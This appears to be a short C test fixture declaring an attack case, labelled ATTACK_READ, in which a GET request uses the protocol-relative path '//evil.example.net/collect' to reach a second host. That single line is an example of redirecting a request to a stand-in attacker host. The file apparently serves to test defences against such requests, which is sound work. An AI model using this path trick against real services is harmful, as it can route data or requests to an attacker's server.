/* Reads from another host, by a path that begins with one. */
#include "declared.h"

ATTACK_READ("second-host", .get = "GET //evil.example.net/collect")
